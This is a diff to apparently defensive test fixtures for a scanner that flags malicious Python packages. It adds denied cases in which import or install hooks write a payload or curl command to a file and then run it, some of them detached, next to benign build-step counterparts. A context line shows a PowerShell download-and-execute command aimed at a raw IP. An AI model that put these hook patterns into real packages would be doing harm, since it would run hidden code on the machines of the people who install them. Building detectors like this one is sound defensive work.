@@ -11,6 +11,9 @@ a string built by ``+`` or an f-string keeps its known head tries next.
   x]; run(c)``): it keeps its words, as ``LIST + x`` does (ADR 0153).
 * A platform switch: ``CMD if os.name == 'posix' else WIN``, ``CMDS[sys.platform]``,
   ``CMDS.get(sys.platform)``: each string the value may be is read as run.
+* The payload or the command written to a file that is then run (``runpy.run_path``, the
+  interpreter or a shell given its path, the path run as a program): the written text is
+  read as what runs.
 * The payload or the command kept in a dict literal and looked up by a written key
   (``CONFIG = {'post_install': CMD}; run(CONFIG['post_install'], shell=True)``): a dict of
   written strings folds, so its entry is read as the string itself.
@@ -143,6 +146,39 @@ DENIED: dict[str, dict[str, str]] = {
     "command-in-a-dict-in-setup-py": on_install(
         "HOOKS = {'post': CURL}\nos.system(HOOKS['post'])\n"
     ),
+    # Written to a file, then run.
+    "payload-written-then-run-by-runpy": on_import(
+        "import runpy\nopen('/tmp/evpkg_p.py', 'w').write(P)\nrunpy.run_path('/tmp/evpkg_p.py')\n"
+    ),
+    "payload-written-then-run-by-the-interpreter": on_import(
+        "open('/tmp/evpkg_p.py', 'w').write(P)\n"
+        "subprocess.Popen([sys.executable, '/tmp/evpkg_p.py'])\n"
+    ),
+    "payload-written-by-pathlib-then-run-by-a-shell-command": on_import(
+        "from pathlib import Path\nPath('/tmp/evpkg_p.py').write_text(P)\n"
+        "os.system(sys.executable + ' /tmp/evpkg_p.py')\n"
+    ),
+    "payload-joined-into-a-file-then-run": on_import(
+        f"import runpy\nopen('/tmp/evpkg_p.py', 'w').write(''.join([P, {X}]))\n"
+        "runpy.run_path('/tmp/evpkg_p.py')\n"
+    ),
+    "payload-written-home-then-run-detached": on_import(
+        "p = os.path.expanduser('~/.cache/evpkg_p.py')\n"
+        "with open(p, 'w') as f:\n    f.write(P)\n"
+        "subprocess.Popen([sys.executable, p], start_new_session=True)\n"
+    ),
+    "shell-script-written-then-run-by-sh": on_import(
+        "open('/tmp/evpkg.sh', 'w').write('#!/bin/sh\\n' + CURL + '\\n')\n"
+        "os.system('sh /tmp/evpkg.sh')\n"
+    ),
+    "shell-script-written-made-executable-and-run": on_import(
+        "p = os.path.join('/tmp', 'evpkg.sh')\nwith open(p, 'w') as f:\n    f.write(CURL)\n"
+        "os.chmod(p, 0o755)\nsubprocess.call([p])\n"
+    ),
+    "payload-written-then-run-in-setup-py": on_install(
+        "open('build_helper.py', 'w').write(P)\n"
+        "subprocess.check_call([sys.executable, 'build_helper.py'])\n"
+    ),
     # One of several strings: a platform switch.
     "command-picked-by-platform-in-the-call": on_import(
         "WIN = 'powershell -c iwr http://203.0.113.5/x | iex'\n"
@@ -165,6 +201,22 @@ DENIED: dict[str, dict[str, str]] = {
 }
 
 ALLOWED: dict[str, dict[str, str]] = {
+    "c-probe-written-and-compiled-in-setup-py": built(
+        "with open('conftest.c', 'w') as f:\n    f.write('int main(void) { return 0; }\\n')\n"
+        "ok = subprocess.call(['cc', 'conftest.c', '-o', 'conftest']) == 0\n"
+    ),
+    "generator-written-and-run-by-python-in-setup-py": built(
+        "open('build_gen.py', 'w').write('print(42)\\n')\n"
+        "subprocess.check_call([sys.executable, 'build_gen.py'])\n"
+    ),
+    "version-file-written-and-run-in-setup-py": built(
+        "import runpy\nopen('evpkg/_version.py', 'w').write(\"__version__ = '1.0'\\n\")\n"
+        "v = runpy.run_path('evpkg/_version.py')['__version__']\n"
+    ),
+    "config-written-and-copied-in-setup-py": built(
+        "open('evpkg.cfg', 'w').write('[x]\\ny = 1\\n')\n"
+        "subprocess.call(['cp', 'evpkg.cfg', 'build/'])\n"
+    ),
     "which-or-where-picked-by-platform-in-setup-py": built(
         "tool = 'where' if os.name == 'nt' else 'which'\n"
         "have_cmake = subprocess.call([tool, 'cmake']) == 0\n"
